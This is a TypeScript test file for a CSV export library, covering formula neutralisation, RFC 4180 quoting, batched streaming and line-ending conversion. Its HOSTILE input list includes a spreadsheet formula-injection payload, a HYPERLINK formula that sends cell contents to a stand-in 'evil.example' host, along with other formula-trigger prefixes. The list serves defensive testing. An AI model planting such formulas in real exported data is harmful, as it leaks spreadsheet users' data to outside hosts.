import { parse } from "csv-parse/sync";
import fc from "fast-check";

import { createCsvStream, csvField, csvRecord, lfToCrlfOutsideQuotes, neutraliseFormula, UTF8_BOM } from "@/lib/csv";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+1",
  "-2+3",
  "@SUM(A1)",
  "\tTabbed",
  "\rCarriage",
  'She said "hi"',
  "Comma, Inc",
  "Line one\nLine two",
  "Windows\r\nline",
  "Siobhán Ó Briain",
  "李小龙",
  "Zoë 👩‍🔧",
  "",
  '"',
  "'already quoted",
  "a=b",
];

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  // Keeps a BOM in the text (Response.text() would strip it).
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
}

async function* batchesOf(batches: string[][][], onRead?: (index: number) => void) {
  for (const [index, batch] of batches.entries()) {
    onRead?.(index);
    yield batch;
  }
}

/**
 * Lets every pending read-ahead run: a few turns of the event loop (a stream's pull is scheduled as a
 * microtask, a batch's generator may await once more), with no wall-clock wait for a slow machine to miss.
 */
async function settle(turns = 10) {
  for (let turn = 0; turn < turns; turn++) await new Promise((resolve) => setImmediate(resolve));
}

describe("neutraliseFormula", () => {
  it.each(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])("prefixes %j with a quote", (value) => {
    expect(neutraliseFormula(value)).toBe(`'${value}`);
  });

  it.each(["Ann", "a=b", "1-5", " =1", "", "'x"])("leaves %j alone", (value) => {
    expect(neutraliseFormula(value)).toBe(value);
  });
});

describe("CSV quoting (RFC 4180)", () => {
  it("quotes every field, doubles inner quotes and ends records with CRLF", () => {
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvRecord(["a", "b\nc", ""])).toBe('"a","b\nc",""\r\n');
  });

  it("round-trips hostile values through a CSV parser, formulas neutralised", () => {
    const text = HOSTILE.map((value) => csvRecord([value, "x"])).join("");
    const records = parse(text, { relax_quotes: false }) as string[][];
    expect(records.map((record) => record[0])).toEqual(HOSTILE.map(neutraliseFormula));
    expect(records.every((record) => record.length === 2 && record[1] === "x")).toBe(true);
  });

  it("round-trips any text", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 1, maxLength: 5 }), {
          minLength: 1,
          maxLength: 10,
        }),
        (rows) => {
          const records = parse(rows.map(csvRecord).join(""), { relax_column_count: true }) as string[][];
          expect(records).toEqual(rows.map((row) => row.map(neutraliseFormula)));
        },
      ),
    );
  });
});

describe("createCsvStream", () => {
  it("writes a BOM, the header and every batch", async () => {
    const stream = await createCsvStream({
      header: ["Name", "Note"],
      batches: batchesOf([[["a", "=1"]], [["b", "c,d"]]]),
    });
    const text = await readAll(stream);
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    expect(parse(text, { bom: true })).toEqual([
      ["Name", "Note"],
      ["a", "'=1"],
      ["b", "c,d"],
    ]);
  });

  it("writes only the header when there are no rows", async () => {
    const text = await readAll(await createCsvStream({ header: ["Name"], batches: batchesOf([]), bom: false }));
    expect(text).toBe('"Name"\r\n');
  });

  it("reads batches only as the consumer pulls, at most one ahead", async () => {
    const read: number[] = [];
    const batches = Array.from({ length: 10 }, (_, index) => [[`row ${index}`]]);
    const stream = await createCsvStream({
      header: ["Name"],
      batches: batchesOf(batches, (index) => read.push(index)),
      bom: false,
    });
    const reader = stream.getReader();
    const first = await reader.read();
    expect(new TextDecoder().decode(first.value)).toBe('"Name"\r\n"row 0"\r\n');
    await settle();
    // Batch 0 went out; batch 1 is read ahead for the next pull; nothing further until asked.
    expect(read).toEqual([0, 1]);
    await reader.read();
    await settle();
    expect(read).toEqual([0, 1, 2]);
    await reader.cancel();
    expect(read).toEqual([0, 1, 2]);
  });

  it("rejects before streaming when the first batch fails, and errors the stream on a later failure", async () => {
    async function* failing(after: number) {
      for (let index = 0; ; index++) {
        if (index === after) throw new Error("database went away");
        yield [[`row ${index}`]];
      }
    }
    await expect(createCsvStream({ header: ["Name"], batches: failing(0) })).rejects.toThrow("database went away");
    const stream = await createCsvStream({ header: ["Name"], batches: failing(2) });
    await expect(readAll(stream)).rejects.toThrow("database went away");
  });

  it("closes the source when the consumer cancels", async () => {
    let closed = false;
    async function* endless() {
      try {
        for (let index = 0; ; index++) yield [[`row ${index}`]];
      } finally {
        closed = true;
      }
    }
    const stream = await createCsvStream({ header: ["Name"], batches: endless() });
    const reader = stream.getReader();
    await reader.read();
    await reader.cancel();
    expect(closed).toBe(true);
  });
});

describe("lfToCrlfOutsideQuotes", () => {
  const run = async (chunks: string[]) => {
    const transform = lfToCrlfOutsideQuotes();
    const out: Buffer[] = [];
    transform.on("data", (chunk: Buffer) => out.push(chunk));
    const done = new Promise((resolve) => transform.on("end", resolve));
    for (const chunk of chunks) transform.write(Buffer.from(chunk));
    transform.end();
    await done;
    return Buffer.concat(out).toString("utf8");
  };

  it("handles a chunk holding thousands of records, and counts them", async () => {
    const records = Array.from({ length: 5000 }, (_, index) => [
      `Person ${index}`,
      index % 7 === 0 ? "two\nlines" : "one line",
    ]);
    const lf = records.map((record) => csvRecord(record).slice(0, -2) + "\n").join("");
    const counter = { records: 0 };
    const transform = lfToCrlfOutsideQuotes(counter);
    const out: Buffer[] = [];
    transform.on("data", (chunk: Buffer) => out.push(chunk));
    const done = new Promise((resolve) => transform.on("end", resolve));
    transform.end(Buffer.from(lf));
    await done;
    expect(Buffer.concat(out).toString("utf8")).toBe(records.map((record) => csvRecord(record)).join(""));
    expect(counter.records).toBe(5000);
  });

  it("turns COPY's LF record ends into CRLF, keeps line breaks inside fields, wherever the chunks split", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { maxLength: 6 }),
        fc.array(fc.nat(40)),
        async (records, cuts) => {
          const lf = records.map((record) => csvRecord(record).slice(0, -2) + "\n").join("");
          const expected = records.map((record) => csvRecord(record)).join("");
          const positions = [...new Set(cuts.map((cut) => cut % (lf.length + 1)))].sort((a, b) => a - b);
          const chunks = [0, ...positions, lf.length]
            .slice(1)
            .map((end, i, ends) => lf.slice(i === 0 ? 0 : ends[i - 1], end));
          expect(await run(chunks)).toBe(expected);
        },
      ),
    );
  });
});
